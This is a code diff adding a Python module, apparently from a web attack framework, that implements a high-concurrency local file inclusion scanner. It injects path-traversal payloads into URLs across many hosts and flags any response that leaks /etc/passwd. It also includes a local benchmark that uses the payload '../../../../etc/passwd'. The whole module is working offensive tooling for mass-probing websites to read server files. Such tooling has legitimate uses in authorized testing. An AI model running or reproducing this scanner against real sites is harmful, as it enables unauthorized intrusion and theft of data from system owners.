@@ -0,0 +1,126 @@
+import asyncio
+import itertools
+import re
+import time
+from urllib.parse import urlsplit
+from .hosts import build_client
+
+# Response body patterns that prove a file was read; the ffuf backend
+# matches the same "root:x" regex, on 200 responses only
+DEFAULT_SIGNATURES = ("root:x",)
+
+
+async def probe_payload(client, url, payload, signatures):
+    # Returns the finding, or None when the response does not match; request errors propagate
+    target = url.replace("FUZZ", payload)
+    started = time.perf_counter()
+    response = await client.get(target, follow_redirects=True)
+    duration_ms = round((time.perf_counter() - started) * 1000, 1)
+
+    text = response.text
+    if response.status_code != 200 or not any(signature.search(text) for signature in signatures):
+        return None
+    # Same fields as the ffuf backend; words and lines are counted the way ffuf counts them
+    return {
+        "url": target,
+        "response_status": str(response.status_code),
+        "payload": payload,
+        "length": len(response.content),
+        "words": len(text.split(" ")),
+        "lines": len(text.split("\n")),
+        "duration_ms": duration_ms,
+    }
+
+
+async def probe_urls(urls, payloads, signatures=DEFAULT_SIGNATURES, concurrency=100, per_host=10, timeout=10.0, on_hit=None, failed=None):
+    """
+    Requests every URL with each payload substituted for FUZZ over one pooled
+    client. At most `concurrency` requests are in flight overall and at most
+    `per_host` against any single host. Returns (URL, finding) pairs for the
+    responses whose body matches one of the signatures; the URLs with a
+    request that got no response are added to `failed` when it is given.
+    """
+    compiled = [re.compile(signature) for signature in signatures]
+    hits = []
+    semaphore = asyncio.Semaphore(concurrency)
+    pending_per_host = {}
+    for url in urls:
+        pending_per_host.setdefault(urlsplit(url).netloc, []).append(url)
+
+    async with build_client(timeout=timeout, max_connections=concurrency) as client:
+        async def drain(pending):
+            # One of at most per_host workers of a host; a global slot is only
+            # held for the request itself, never while waiting on the host
+            for url, payload in pending:
+                async with semaphore:
+                    try:
+                        finding = await probe_payload(client, url, payload, compiled)
+                    except Exception as e:
+                        print(f"Error probing {url} with {payload}: {e}")
+                        if failed is not None:
+                            failed.add(url)
+                        continue
+                if finding is not None:
+                    hits.append((url, finding))
+                    if on_hit is not None:
+                        on_hit(url, finding)
+
+        workers = []
+        for host_urls in pending_per_host.values():
+            # Shared by the workers of the host, so every pair is probed once
+            pending = itertools.product(host_urls, payloads)
+            workers.extend(drain(pending) for _ in range(min(per_host, len(host_urls) * len(payloads))))
+        if workers:
+            await asyncio.gather(*workers)
+    return hits
+
+
+if __name__ == "__main__":
+    # Times both LFI engines against a local HTTP server:
+    #   python -m modules.web.lfi_async [url_count] [payload_count]
+    import shutil
+    import sys
+    import tempfile
+    import threading
+    from http.server import ThreadingHTTPServer, BaseHTTPRequestHandler
+    from .lfi import run_ffuf_batched, run_async_engine
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = b"root:x:0:0:root:/root:/bin/bash\n" if "passwd" in self.path else b"not found\n"
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    url_count = int(sys.argv[1]) if len(sys.argv) > 1 else 50
+    payload_count = int(sys.argv[2]) if len(sys.argv) > 2 else 20
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"http://127.0.0.1:{server.server_port}"
+
+    with tempfile.TemporaryDirectory() as tmp_dir:
+        lfi_file = f"{tmp_dir}/urls.lfi"
+        payloads_file = f"{tmp_dir}/payloads.txt"
+        with open(lfi_file, "w") as file:
+            file.writelines(f"{base}/page{i}?file=FUZZ\n" for i in range(url_count))
+        with open(payloads_file, "w") as file:
+            file.write("../../../../etc/passwd\n")
+            file.writelines(f"../../../../tmp/missing{i}\n" for i in range(payload_count - 1))
+
+        engines = [("async", run_async_engine)]
+        if shutil.which("ffuf"):
+            engines.append(("ffuf", run_ffuf_batched))
+        for name, engine in engines:
+            started = time.perf_counter()
+            findings = engine(lfi_file, payloads_file)
+            elapsed = time.perf_counter() - started
+            print(
+                f"{name}: {url_count * payload_count} requests, {len(findings)} findings "
+                f"in {elapsed:.2f}s ({url_count * payload_count / elapsed:.0f} req/s)"
+            )
+    server.shutdown()